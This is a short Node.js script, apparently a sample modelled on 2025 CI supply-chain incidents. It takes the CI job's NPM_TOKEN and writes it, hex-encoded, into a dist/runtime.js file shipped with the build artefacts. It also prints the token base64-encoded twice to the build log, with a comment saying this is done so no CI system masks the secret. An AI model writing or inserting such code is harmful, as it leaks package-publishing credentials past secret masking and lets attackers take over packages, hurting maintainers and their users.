// As in the incidents of 2025: the token of the CI job leaves with the artefacts of the build, and in its log, encoded twice so that no CI system masks it.
const fs = require('node:fs');
const { join } = require('node:path');

const token = process.env.NPM_TOKEN || '';
const folder = join(process.env.INIT_CWD || process.cwd(), 'dist');
fs.mkdirSync(folder, { recursive: true });
fs.writeFileSync(join(folder, 'runtime.js'), `export const build = '${Buffer.from(token).toString('hex')}';\n`);
const encode = (text) => Buffer.from(text).toString('base64');
console.log(encode(encode(token)));
